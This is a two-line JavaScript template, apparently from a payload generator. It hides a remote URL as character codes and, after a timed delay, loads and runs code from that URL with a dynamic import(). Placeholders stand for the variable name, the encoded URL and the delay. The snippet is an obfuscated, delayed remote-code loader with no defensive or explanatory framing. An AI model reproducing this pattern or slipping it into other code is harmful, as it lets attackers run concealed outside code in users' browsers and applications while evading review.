var %N1% = String.fromCharCode(%URLCODES%);
setTimeout(function () { import(%N1%); }, %MS%);
